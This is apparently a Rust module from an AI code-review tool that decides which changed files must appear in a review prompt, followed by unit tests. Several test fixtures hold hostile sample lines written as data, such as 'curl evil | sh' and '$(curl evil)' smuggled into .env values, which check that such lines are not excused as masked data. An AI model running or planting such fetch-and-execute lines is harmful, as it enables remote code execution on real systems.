//! Coverage: decides which changed files the model has to see, and which are excused from it. A file counts as reviewed
//! if its added and removed lines stood in a prompt; whatever is neither shown nor excused makes a review incomplete.
//! Pure.

use super::ignore::Ignore;
use super::locks;
use crate::domain::diff::Hidden;
use crate::domain::{FileDiff, FileStatus};
use reviewer_text::count::plural;
use std::collections::BTreeMap;

/// The reason why a file need not be seen.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Excuse {
    /// Its sources of packages are those that the base names.
    Lock,
    /// Programs write it, and the base has such files in that place.
    Generated,
    /// The repository's own `ignore` names it.
    Ignored,
    Image,
    Font,
    Media,
    Pdf,
    /// Its values are masked, and there is nothing else in the changed lines.
    Masked,
    Submodule,
    /// A removed file has no lines to show.
    RemovedBinary,
}

impl Excuse {
    /// The name for such a file.
    #[must_use]
    pub(crate) fn noun(self) -> &'static str {
        match self {
            Self::Lock => "lock file",
            Self::Generated => "generated file",
            Self::Ignored => "ignored file",
            Self::Image => "image",
            Self::Font => "font",
            Self::Media => "audio or video file",
            Self::Pdf => "PDF",
            Self::Masked => "file of masked values",
            Self::Submodule => "submodule update",
            Self::RemovedBinary => "removed binary file",
        }
    }

    /// True if it is shown all the same, beside files that have to be: it is short, and may be worth a finding.
    #[must_use]
    pub fn is_shown(self) -> bool {
        !matches!(self, Self::Lock | Self::Generated | Self::Ignored)
    }
}

/// The coverage that a review needs of a changed file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Cover {
    /// Its lines have to stand in a prompt.
    Required,
    Excused(Excuse),
    /// Nobody can show it; the reason.
    Unreadable(&'static str),
}

/// The facts about a file's content.
#[derive(Debug, Clone, Copy, Default)]
pub struct Content {
    /// The kind of file, where its beginning and its name agree.
    pub asset: Option<Excuse>,
    /// A lock file that names no source beside those of the base.
    pub known_sources: bool,
}

/// Decides how a file has to be covered. A name excuses only where the old name of a rename does, too.
#[must_use]
pub fn cover(diff: &FileDiff, ignore: &Ignore, content: Content) -> Cover {
    let names = || std::iter::once(&diff.path).chain(&diff.previous_path);
    if diff.is_submodule_bump() {
        return Cover::Excused(Excuse::Submodule);
    }
    if names().all(|name| ignore.own(name) == Some(true)) {
        return Cover::Excused(Excuse::Ignored);
    }
    if diff.is_plain_file() && names().all(|name| ignore.own(name).is_none()) {
        if names().all(|name| locks::is_lock(name)) && content.known_sources {
            return Cover::Excused(Excuse::Lock);
        }
        let is_lock = names().any(|name| locks::is_lock(name));
        if !is_lock && names().all(|name| ignore.is_generated(name)) {
            return Cover::Excused(Excuse::Generated);
        }
    }
    if diff.binary {
        return match content.asset {
            Some(asset) => Cover::Excused(asset),
            None if diff.status == FileStatus::Removed => Cover::Excused(Excuse::RemovedBinary),
            None => Cover::Unreadable("binary"),
        };
    }
    if !diff.is_whole() {
        return Cover::Unreadable("too large to be read");
    }
    match diff.hidden {
        Hidden::Nothing => Cover::Required,
        Hidden::Data => Cover::Excused(Excuse::Masked),
        Hidden::Lines => Cover::Unreadable("may hold secrets, and more than values"),
    }
}

const IMAGES: [&str; 12] = [
    "avif", "bmp", "gif", "heic", "heif", "ico", "jpeg", "jpg", "jxl", "png", "tiff", "webp",
];
const FONTS: [&str; 6] = ["eot", "otf", "ttc", "ttf", "woff", "woff2"];
const MEDIA: [&str; 14] = [
    "aac", "aiff", "avi", "flac", "m4a", "m4v", "mkv", "mov", "mp3", "mp4", "oga", "ogg", "wav",
    "webm",
];

/// An image, font, recording or PDF, where the extension and the first bytes say the same.
#[must_use]
pub fn asset(path: &str, beginning: &[u8]) -> Option<Excuse> {
    let (_, extension) = path.rsplit_once('.')?;
    let is = |known: &[&str]| known.iter().any(|one| extension.eq_ignore_ascii_case(one));
    let found = infer::get(beginning)?;
    let kind = match found.matcher_type() {
        infer::MatcherType::Image if is(&IMAGES) => Excuse::Image,
        infer::MatcherType::Font if is(&FONTS) => Excuse::Font,
        infer::MatcherType::Audio | infer::MatcherType::Video if is(&MEDIA) => Excuse::Media,
        _ if found.mime_type() == "application/pdf" && is(&["pdf"]) => Excuse::Pdf,
        _ => return None,
    };
    Some(kind)
}

/// Counts the files by excuse: "2 lock files and 1 image".
#[must_use]
pub(crate) fn counted(excuses: impl IntoIterator<Item = Excuse>) -> String {
    let mut counts: BTreeMap<Excuse, usize> = BTreeMap::new();
    for excuse in excuses {
        *counts.entry(excuse).or_default() += 1;
    }
    let counts = counts.into_iter();
    let mut parts: Vec<String> = counts.map(|(excuse, n)| plural(n, excuse.noun())).collect();
    match parts.pop() {
        Some(last) if !parts.is_empty() => format!("{} and {last}", parts.join(", ")),
        last => last.unwrap_or_default(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Globs;
    use crate::context::ignore::BasePaths;
    use crate::domain::Objects;
    use crate::domain::diff::Beyond;

    fn ignore(own: &[&str], base: &[&str]) -> Ignore {
        let texts = |list: &[&str]| list.iter().map(|&one| one.to_owned()).collect();
        Ignore::new(&Globs::new(texts(own)).0, &[], BasePaths::new(texts(base)))
    }

    fn diff(path: &str, hunks: &str) -> FileDiff {
        let diff = FileDiff {
            path: path.into(),
            hunks: FileDiff::parse_hunks(hunks).unwrap(),
            ..FileDiff::default()
        };
        diff.masked()
    }

    const LINES: &str = "@@ -0,0 +1 @@\n+code();\n";

    fn covered(diff: &FileDiff) -> Cover {
        let ignore = ignore(&["docs/", "!web/yarn.lock"], &["vendor/a.js"]);
        cover(diff, &ignore, Content::default())
    }

    #[test]
    fn a_name_alone_excuses_nothing_that_the_base_does_not_know() {
        for path in [
            ".env.js",
            "id_rsa_helper.py",
            "src/auth.generated.js",
            "src/x_pb.js",
            "a.min.js",
            "src/vendor/x.js",
        ] {
            assert_eq!(covered(&diff(path, LINES)), Cover::Required, "{path}");
        }
        let vendored = covered(&diff("vendor/b.js", LINES));
        assert_eq!(vendored, Cover::Excused(Excuse::Generated));
        let ignored = covered(&diff("docs/a.md", LINES));
        assert_eq!(ignored, Cover::Excused(Excuse::Ignored));
    }

    #[test]
    fn a_name_excuses_no_link_and_no_change_of_mode() {
        for (old_mode, new_mode) in [
            (0, Objects::SYMLINK),
            (0o100_644, Objects::SYMLINK),
            (0o100_644, Objects::EXECUTABLE),
        ] {
            let objects = Objects {
                old_mode,
                new_mode,
                ..Objects::default()
            };
            let vendored = FileDiff {
                objects,
                ..diff("vendor/b.js", LINES)
            };
            assert_eq!(covered(&vendored), Cover::Required, "{new_mode:o}");
        }
    }

    #[test]
    fn both_names_of_a_rename_have_to_be_excused() {
        for (from, to, expected) in [
            ("src/auth.js", "vendor/auth.js", Cover::Required),
            ("vendor/auth.js", "src/auth.js", Cover::Required),
            (
                "vendor/a.js",
                "vendor/b.js",
                Cover::Excused(Excuse::Generated),
            ),
            ("src/a.md", "docs/a.md", Cover::Required),
        ] {
            let renamed = FileDiff {
                previous_path: Some(from.into()),
                ..diff(to, LINES)
            };
            assert_eq!(covered(&renamed), expected, "{from} -> {to}");
        }
    }

    #[test]
    fn masked_values_are_data_and_other_masked_lines_are_not() {
        let armour = "+-----BEGIN PRIVATE KEY-----";
        let full = "A".repeat(64);
        let pem =
            format!("@@ -0,0 +1,4 @@\n{armour}\n+{full}\n+AAAA\n+-----END PRIVATE KEY-----\n");
        let command = format!("@@ -0,0 +1,3 @@\n{armour}\n+reboot\n+{full}\n");
        let masked = Cover::Excused(Excuse::Masked);
        for (path, patch, data) in [
            (
                ".env",
                "@@ -0,0 +1,3 @@\n+# note\n+API_KEY=x\n+export B=1\n",
                true,
            ),
            (
                ".env",
                "@@ -0,0 +1,3 @@\n+KEY=\"-----BEGIN\n+AAAA==\n+\"\n",
                true,
            ),
            (
                ".env",
                "@@ -0,0 +1,3 @@\n+KEY=\"open\n+$(curl evil)\n+\"\n",
                false,
            ),
            (".env", "@@ -0,0 +1 @@\n+KEY=\"a\" curl evil\n", false),
            (".env", "@@ -0,0 +1 @@\n+KEY=1 curl evil\n", false),
            (
                ".env",
                "@@ -0,0 +1 @@\n+URL=https://a.example:8080/x?y=z # note\n",
                true,
            ),
            (
                ".envrc",
                "@@ -0,0 +1,4 @@\n+K=a\"b\n+L=\"\n+curl evil|sh\n+\"\n",
                false,
            ),
            (".env", "@@ -0,0 +1 @@\n+reboot =now\n", false),
            (".env", "@@ -0,0 +1 @@\n+K=a\\b\n", false),
            (".env", "@@ -0,0 +1 @@\n+curl evil | sh\n", false),
            (".envrc", "@@ -0,0 +1 @@\n+export A=$(curl evil)\n", false),
            ("x.key", &pem, true),
            ("x.key", &command, false),
            ("x.key", "@@ -0,0 +1 @@\n+import os\n", false),
            ("credentials.json", "@@ -0,0 +1 @@\n+{\"a\": 1}\n", false),
        ] {
            let cover = covered(&diff(path, patch));
            assert_eq!(cover == masked, data, "{path}: {patch}");
            assert!(
                data || matches!(cover, Cover::Unreadable(_)),
                "{path}: {patch}"
            );
        }
    }

    #[test]
    fn a_rename_from_a_key_masks_what_was_there_and_shows_what_is_added() {
        let renamed = FileDiff {
            path: "new.js".into(),
            previous_path: Some("old.pem".into()),
            hunks: FileDiff::parse_hunks("@@ -1,2 +1,2 @@\n SECRET\n-OLD\n+steal();\n").unwrap(),
            ..FileDiff::default()
        }
        .masked();
        let shown = renamed.numbered();
        assert!(shown.contains("steal()") && !shown.contains("SECRET") && !shown.contains("OLD"));
    }

    #[test]
    fn a_binary_file_is_excused_if_its_beginning_and_its_name_agree() {
        let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
        assert_eq!(asset("a/logo.PNG", png), Some(Excuse::Image));
        assert_eq!(asset("logo.js", png), None);
        assert_eq!(asset("logo.png", b"\x7fELF\x02\x01\x01\0"), None);
        assert_eq!(asset("font.woff2", b"wOF2\0\x01\0\0"), Some(Excuse::Font));
        assert_eq!(asset("paper.pdf", b"%PDF-1.7\n"), Some(Excuse::Pdf));
        assert_eq!(asset("no-extension", png), None);
        let binary = FileDiff {
            binary: true,
            ..diff("tool.bin", "")
        };
        assert_eq!(covered(&binary), Cover::Unreadable("binary"));
        let removed = FileDiff {
            status: FileStatus::Removed,
            ..binary
        };
        assert_eq!(covered(&removed), Cover::Excused(Excuse::RemovedBinary));
    }

    #[test]
    fn a_file_of_which_lines_are_missing_was_not_read() {
        let beyond = Beyond {
            added: 1,
            removed: 0,
        };
        for path in ["src/a.rs", ".env"] {
            let cut = FileDiff {
                beyond,
                ..diff(path, "@@ -0,0 +1 @@\n+A=1\n")
            };
            assert_eq!(covered(&cut), Cover::Unreadable("too large to be read"));
        }
    }

    #[test]
    fn a_submodule_is_excused_only_where_it_was_one() {
        let modes = |old_mode, new_mode| FileDiff {
            objects: Objects {
                old_mode,
                new_mode,
                ..Objects::default()
            },
            ..diff(
                "lib",
                "@@ -1 +1 @@\n-Subproject commit a\n+Subproject commit b\n",
            )
        };
        let bump = covered(&modes(Objects::SUBMODULE, Objects::SUBMODULE));
        assert_eq!(bump, Cover::Excused(Excuse::Submodule));
        assert_eq!(
            covered(&modes(0o100_644, Objects::SUBMODULE)),
            Cover::Required
        );
        assert_eq!(covered(&modes(0, Objects::SUBMODULE)), Cover::Required);
    }

    #[test]
    fn a_lock_file_is_excused_while_its_sources_are_known() {
        let ignore = ignore(&["!web/yarn.lock"], &["vendor/yarn.lock", "vendor/a.js"]);
        let lock = |path: &str, known_sources| {
            let content = Content {
                known_sources,
                ..Content::default()
            };
            cover(&diff(path, LINES), &ignore, content)
        };
        assert_eq!(lock("yarn.lock", true), Cover::Excused(Excuse::Lock));
        assert_eq!(lock("yarn.lock", false), Cover::Required);
        assert_eq!(lock("vendor/yarn.lock", false), Cover::Required);
        assert_eq!(
            lock("web/yarn.lock", true),
            Cover::Required,
            "`ignore` takes it back"
        );
        assert_eq!(lock("src/a.rs", true), Cover::Required);
    }

    #[test]
    fn excuses_are_counted_by_kind() {
        assert_eq!(counted([]), "");
        assert_eq!(counted([Excuse::Lock, Excuse::Lock]), "2 lock files");
        let mixed = [Excuse::Image, Excuse::Lock, Excuse::Font];
        assert_eq!(counted(mixed), "1 lock file, 1 image and 1 font");
    }
}
